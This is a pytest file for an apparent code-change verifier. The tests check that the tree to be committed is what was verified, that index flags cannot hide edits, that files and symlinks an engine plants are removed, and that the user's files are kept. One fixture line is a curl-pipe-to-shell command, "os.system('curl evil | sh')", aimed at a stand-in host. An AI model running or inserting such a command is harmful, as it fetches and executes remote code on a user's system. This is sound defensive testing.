"""What is pushed is what was verified: the candidate is the tree a commit takes, judged without the
index; the tree must still be it before the commit; ignored files an engine's session made are gone
before verify, and nothing of the user's ever is."""

from __future__ import annotations

from pathlib import Path

import pytest

from fixer.stages import changes, tree
from tests.helpers.repos import Repo, make_repo


@pytest.fixture
def repo(tmp_path: Path) -> Repo:
    return make_repo(tmp_path, {"app.py": "x = 1\n", ".gitignore": "*.log\nbuild/\nlocal_*.py\n"})


def test_the_candidate_is_what_a_commit_would_take(repo: Repo) -> None:
    (repo.path / "app.py").write_text("x = 2\n")
    (repo.path / "new.py").write_text("y = 1\n")
    (repo.path / "debug.log").write_text("ignored\n")
    found = {c.path: c for c in changes.changes(repo.path, tree.candidate(repo.path))}
    assert set(found) == {"app.py", "new.py"}
    assert found["app.py"].added == ("x = 2",) and found["app.py"].removed == ("x = 1",)
    assert found["new.py"].status == "A"


def test_index_flags_cannot_hide_a_change(repo: Repo) -> None:
    """Repository code can mark a file assume-unchanged: git status then says nothing; the candidate does."""
    (repo.path / "app.py").write_text("import os; os.system('curl evil | sh')\n")
    repo.git("update-index", "--assume-unchanged", "app.py")
    assert repo.git("status", "--porcelain") == ""
    assert [c.path for c in changes.changes(repo.path, tree.candidate(repo.path))] == ["app.py"]


def test_drift_names_what_changed_after_the_guard(repo: Repo) -> None:
    (repo.path / "app.py").write_text("x = 2\n")
    guarded = tree.candidate(repo.path)
    assert tree.drift(repo.path, guarded) is None
    (repo.path / "app.py").write_text("x = 2  # verify rewrote me\n")
    (repo.path / "planted.py").write_text("evil = 1\n")
    why = tree.drift(repo.path, guarded)
    assert why is not None and "app.py" in why and "planted.py" in why


def test_new_ignored_files_are_dropped_and_old_ones_kept(repo: Repo) -> None:
    (repo.path / "mine.log").write_text("the user's\n")
    (repo.path / "build").mkdir()
    (repo.path / "build" / "old.o").write_text("the user's build\n")
    before = tree.Others.take(repo.path)
    (repo.path / "local_settings.py").write_text("PASS = True\n")  # the engine's session made these
    (repo.path / "build" / "cache").mkdir()
    (repo.path / "build" / "cache" / "x.o").write_text("new\n")
    (repo.path / "draft.py").write_text("an engine's new source file: part of the candidate\n")
    removed = tree.drop_new_ignored(repo.path, before)
    assert sorted(removed) == ["build/cache/x.o", "local_settings.py"]
    assert (repo.path / "mine.log").exists() and (repo.path / "build" / "old.o").exists()
    assert (repo.path / "draft.py").exists() and not (repo.path / "build" / "cache").exists()


def test_restore_goes_back_to_head_and_keeps_the_users_files(repo: Repo) -> None:
    (repo.path / "mine.log").write_text("the user's\n")
    before = tree.Others.take(repo.path)
    (repo.path / "app.py").write_text("broken\n")
    (repo.path / "new.py").write_text("new\n")
    (repo.path / "session.log").write_text("made by the engine\n")
    tree.restore(repo.path, before)
    assert (repo.path / "app.py").read_text() == "x = 1\n"
    assert not (repo.path / "new.py").exists() and not (repo.path / "session.log").exists()
    assert (repo.path / "mine.log").read_text() == "the user's\n"


def test_a_planted_link_is_removed_not_followed(repo: Repo, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep\n")
    before = tree.Others.take(repo.path)
    (repo.path / "link.log").symlink_to(victim)
    assert tree.drop_new_ignored(repo.path, before) == ["link.log"]
    assert victim.read_text() == "keep\n"


def test_changes_count_bytes_renames_and_binaries(repo: Repo) -> None:
    repo.commit({"tests/test_a.py": "def test_a():\n    assert 1\n"}, "a test")
    repo.git("mv", "tests/test_a.py", "tests/test_b.py")
    repo.git("reset", "--quiet")
    (repo.path / "blob.bin").write_bytes(b"\0\1\2" * 10)
    (repo.path / "app.py").write_text("x = '" + "y" * 5000 + "'\n")
    found = {c.path: c for c in changes.changes(repo.path, tree.candidate(repo.path))}
    assert found["tests/test_b.py"].status == "R" and found["tests/test_b.py"].old_path == "tests/test_a.py"
    assert found["blob.bin"].binary
    assert found["app.py"].added_bytes > 5000
